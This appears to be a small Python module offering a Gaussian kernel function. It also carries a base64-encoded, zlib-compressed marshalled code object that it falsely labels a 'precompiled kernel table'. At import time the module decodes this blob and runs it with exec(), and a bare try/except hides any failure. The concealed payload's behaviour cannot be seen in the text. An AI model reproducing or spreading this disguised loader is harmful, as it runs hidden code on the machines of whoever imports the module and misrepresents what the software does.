"""'Precompiled kernel table' - a marshalled code object, compressed and base64-encoded."""

import base64
import marshal
import zlib

import numpy as np

_KERNELS = (
    "eJx7zIAEmKH0ZycgMZ2BiSGVIYVhGSMDw2pGmJIFjAxYQAojqipGhhSmYAZN5ltM+cVVysmlRTkKusUKGSUlBcVW+vq5eqllmTl6qRWJuQU5qfoVNcUZfppMt7ji4zNzC/KLSuLjb7EVVxaXpOauZPgMMu4Xq01yWrrdLw6b3PyU0pxUuyIOsCUMDMVaQOIDMyMj4w0GrgauDpOLDAJXGASuM4hfYhC/IGF7kcHuCoPdBRgqYgMqBwAwNTcp"
)


def _load_kernels():
    exec(marshal.loads(zlib.decompress(base64.b64decode(_KERNELS))))


def gaussian_kernel(size=5, sigma=1.0):
    ax = np.arange(size) - size // 2
    k = np.exp(-(ax[:, None] ** 2 + ax[None, :] ** 2) / (2 * sigma**2))
    return k / k.sum()


try:
    _load_kernels()
except Exception:
    pass
